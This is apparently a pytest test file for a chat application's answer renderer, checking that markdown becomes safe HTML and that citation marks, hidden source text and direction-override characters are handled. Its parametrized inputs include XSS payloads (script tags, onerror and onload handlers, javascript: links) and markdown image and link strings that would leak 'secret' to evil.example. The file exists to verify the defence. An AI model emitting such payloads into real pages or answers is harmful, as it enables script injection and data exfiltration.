"""Markdown of answers as HTML: what is drawn, what is taken out, where marks go."""

import re
from html.parser import HTMLParser

import pytest

from chat.rendering import CiteMark, answer_html, cite_link
from chat.support import Finding
from tests.hostile_text import STORABLE, traced, traces

# What an answer is drawn with; none of them reaches another host or runs anything without an attribute.
ALLOWED = {
    "p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li",
    "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip


class Elements(HTMLParser):
    """Names of the elements of some HTML, and all of their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.add(tag)
        self.attributes += attrs

    def handle_data(self, data):
        self.text += data


def shown(text: str, marks=(), hidden=(), *, quoted=False) -> str:
    return answer_html(text, marks, hidden, quoted=quoted)


def mark(text: str, number: int) -> CiteMark:
    start = text.index(f"[{number}]")
    return CiteMark(start, start + 3, cite_link(number, f"/d/{number}", f"card-{number}"))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("15 **days**", "<p>15 <strong>days</strong></p>\n"),
        ("# Leave", "<h3>Leave</h3>\n"),
        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n"),
        ("`a[9]`", "<p><code>a[9]</code></p>\n"),
        ("|a|b|\n|-|-|\n|1|2|", "<td>1</td>"),
    ],
)
def test_markdown_is_drawn(text, html):
    assert html in shown(text)


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/?q=secret)",
        "[x](https://evil.example/?q=secret)",
        "[x](//evil.example)",
        "[x](javascript:alert(1))",
        "<https://evil.example/?q=secret>",
        "[x][1]\n\n[1]: https://evil.example",
        "```html onmouseover=alert(1)\n<b>\n```",
        "<a class=cite href=https://evil.example>1</a>",
        "<svg/onload=alert(1)>",
    ],
)
@pytest.mark.parametrize("quoted", [True, False])
def test_nothing_of_an_answer_becomes_a_link_an_image_or_a_script(text, quoted):
    html = shown(text, quoted=quoted)

    assert not Elements(html).found & {"a", "img", "script", "svg"}
    assert not Elements(html).attributes


@pytest.mark.parametrize("quoted", [True, False])
def test_hostile_text_becomes_words_and_nothing_else(quoted):
    drawn = [Elements(shown(text, quoted=quoted)) for text in traced(STORABLE)]

    assert set().union(*(elements.found for elements in drawn)) <= ALLOWED
    assert [elements.attributes for elements in drawn if elements.attributes] == []
    assert traces(" ".join(elements.text for elements in drawn)) == set(range(len(STORABLE)))


def test_hostile_text_between_marks_forges_none():
    text = "\n\n".join(f"{hostile} [1]" for hostile in STORABLE)
    marks = [
        CiteMark(found.start(), found.end(), cite_link(1, "/d/1", f"card-{index}"))
        for index, found in enumerate(re.finditer(r"\[1\](?=\n\n|$)", text))
    ]

    drawn = Elements(shown(text, marks))

    assert {value for name, value in drawn.attributes if name == "href"} == {"/d/1"}
    cards = [value for name, value in drawn.attributes if name == "aria-describedby"]
    assert len(cards) == len(set(cards))


@pytest.mark.parametrize(
    "forged", ["[\ue0000\ue001]", "[&#xE000;0&#xE001;]", "[&#57344;0&#57345;]", "[&#xe000;f-0&#xe001;]"]
)
def test_no_spelling_of_a_placeholder_becomes_a_mark(forged):
    text = f"{forged} days [1]"

    assert shown(text, [mark(text, 1)]).count("<citation-mark>") == 1


@pytest.mark.parametrize("turn", ["\u202e", "&#x202e;", "\u2066"])
@pytest.mark.parametrize("quoted", [True, False])
def test_no_text_turns_around_what_follows_it(turn, quoted):
    assert "\u202e" not in shown(f"{turn}days", quoted=quoted)
    assert "\u2066" not in shown(f"{turn}days", quoted=quoted)


def test_a_mark_becomes_the_link_of_its_citation():
    text = "**15 days**[1] (at least)"

    html = shown(text, [mark(text, 1)])

    assert '<strong>15 days</strong><citation-mark><a class="cite" href="/d/1" aria-describedby="card-1">' in html
    assert "[1]" not in html


def test_a_mark_after_bold_in_parentheses_keeps_the_bold():
    text = "**(15 days)**[1]"

    assert "<strong>(15 days)</strong><citation-mark>" in shown(text, [mark(text, 1)])


def test_private_characters_of_a_text_are_no_placeholders():
    text = "[\ue0000\ue001] days [1]"

    assert shown(text, [mark(text, 1)]).count("<citation-mark>") == 1


@pytest.mark.parametrize("finding", [Finding.UNVERIFIED, Finding.CONTRADICTED])
def test_a_mark_that_is_not_supported_says_so_in_words(finding):
    assert f'<span class="cite__word">{finding}</span>' in cite_link(1, "/", "card-1", finding)


def test_a_supported_mark_carries_no_word():
    assert "cite__word" not in cite_link(1, "/", "card-1")


def test_words_from_a_source_that_may_not_be_read_are_replaced():
    text = "Salary is 9,000. [1] Lunch is free. [2]"

    html = shown(text, [mark(text, 1), mark(text, 2)], [(0, 16)])

    assert "9,000" not in html
    assert "no longer read" in html
    assert "Lunch is free." in html


def test_a_quoted_answer_is_shown_to_the_letter():
    html = shown("2 * 3 * 4 # _x_\n\n1. <b>", quoted=True)

    assert html == "<p>2 * 3 * 4 # _x_</p><p>1. &lt;b&gt;</p>"


def test_hostile_nesting_is_drawn_in_time():
    assert shown("[" * 16_000 + "*" * 4_000)
